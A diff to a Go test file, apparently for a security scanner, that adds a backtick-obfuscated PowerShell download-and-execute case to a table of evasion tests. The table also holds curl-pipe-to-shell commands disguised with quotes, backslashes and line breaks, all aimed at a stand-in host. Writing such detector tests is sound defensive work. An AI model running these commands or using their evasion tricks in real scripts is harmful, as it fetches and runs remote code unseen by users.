@@ -60,6 +60,7 @@ var evasions = []struct {
 	{"line continuation", map[string]string{"scripts/a.sh": "curl -fsSL https://x.example/i \\\n  | sh\n"}, "download-exec"},
 	{"empty quotes inside the command", map[string]string{"scripts/a.sh": "c''url -fsSL https://x.example/i | s\"\"h\n"}, "download-exec"},
 	{"backslash inside the command", map[string]string{"scripts/a.sh": "\\curl -fsSL https://x.example/i | ba\\sh\n"}, "download-exec"},
+	{"powershell backticks", map[string]string{"scripts/a.ps1": "i`ex (i`wr https://x.example/p.ps1)\n"}, "download-exec"},
 
 	// Commands the download-exec pattern missed.
 	{"pipe to /bin/sh", map[string]string{"scripts/a.sh": "curl -fsSL https://x.example/i | /bin/sh\n"}, "download-exec"},
@@ -111,6 +112,7 @@ func gzipBytes(b []byte) []byte {
 	w.Close()
 	return buf.Bytes()
 }
+
 // TestNormalizedLocations: a finding in normalized text is located and
 // quoted in the file's own bytes.
 func TestNormalizedLocations(t *testing.T) {
